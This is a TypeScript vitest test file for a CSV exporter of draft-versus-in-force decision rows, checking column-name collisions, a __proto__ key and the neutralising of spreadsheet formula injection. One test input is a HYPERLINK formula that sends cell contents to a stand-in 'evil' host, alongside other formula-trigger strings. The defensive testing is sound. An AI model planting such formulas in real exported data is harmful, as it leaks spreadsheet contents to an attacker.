import { parse } from "papaparse";
import { expect, test } from "vitest";
import { flippedCsv } from "../../playground/state/flipped-csv.ts";
import type { FlippedRow } from "../../src/simulation/impact/flips.ts";

const inForce = { title: "In force", words: "the version in force", isInForce: true };

const row: FlippedRow = {
  row: 3,
  day: "2026-01-31",
  hour: 9,
  wrong: true,
  live: { outcome: "review", rules: ["large"], reviews: [{ team: "desk", people: 1 }], audits: [] },
  draft: { outcome: "proceed", rules: [], reviews: [], audits: [] },
  input: { amount: 5 },
};

function linesOf(rows: readonly FlippedRow[]): readonly Record<string, string>[] {
  return parse<Record<string, string>>(flippedCsv(rows, inForce), { header: true, skipEmptyLines: true }).data;
}

test("fields may be called as our columns are: neither takes the place of the other", () => {
  const input = JSON.parse(
    '{"row":77,"day":"x","hour":0.5,"draft":0.25,"in force":"y","signoff":{"row":1},"__proto__":"own"}',
  );
  const [line] = linesOf([{ ...row, input }]);
  expect(line).toMatchObject({
    "signoff: row": "3",
    "signoff: day": "2026-01-31",
    "signoff: hour": "9",
    "signoff: known to be wrong": "yes",
    "signoff: in force": "review",
    "signoff: draft": "proceed",
    row: "77",
    day: "x",
    hour: "0.5",
    draft: "0.25",
    "in force": "y",
    "signoff.row": "1",
  });
  expect(flippedCsv([{ ...row, input }], inForce).split("\r\n")[0]).toMatch(/,__proto__$/);
});

test("each value stands under its name, whatever other rows have; what a spreadsheet would run is made harmless", () => {
  const lines = linesOf([
    { ...row, input: { amount: 1, customer: { tier: "=1+1" } } },
    { ...row, row: 4, input: { tags: ["a", "b"], amount: 2 } },
  ]);
  expect(lines.map((line) => [line["signoff: row"], line.amount, line["customer.tier"], line.tags])).toEqual([
    ["3", "1", "'=1+1", ""],
    ["4", "2", "", '["a","b"]'],
  ]);
});

test("what the draft was compared with is named by its columns", () => {
  const strict = { title: "strict", words: "the version “strict”", isInForce: false };
  const [line] = parse<Record<string, string>>(flippedCsv([row], strict), { header: true }).data;
  expect(line).toMatchObject({ "signoff: outcome, strict": "review", "signoff: rules, strict": "large" });
});

test.each([
  "=1+1",
  '=HYPERLINK("http://evil/?"&A1,"x")\nsecond line',
  "\n=1+1",
  "\r\n \t+1+1",
  " @SUM(A1)",
  "\u00a0-2+3",
  "\u200b=1",
  "\ufeff=1",
  "\uff1d1+1",
  "-1.2.3",
  "\u0007bell",
  "\u0000=1",
])("a spreadsheet does not run %j, in a cell or as a name", (text) => {
  const csv = flippedCsv([{ ...row, input: { note: text, [text]: 1 } }], inForce);
  const [head, first] = parse<string[]>(csv).data;
  expect(first?.[head?.indexOf("note") ?? -1]).toBe(`'${text}`);
  expect(head?.at(-1)).toBe(`'${text}`);
});

test.each(["-5", "+1.50", "-0,5", "-1e-7", "a=b", "mail@example.com", "\nplain", "", "12-3"])(
  "%j stays as it is",
  (text) => {
    const [line] = linesOf([{ ...row, input: { note: text, amount: -5 } }]);
    expect([line?.note, line?.amount]).toEqual([text, "-5"]);
  },
);
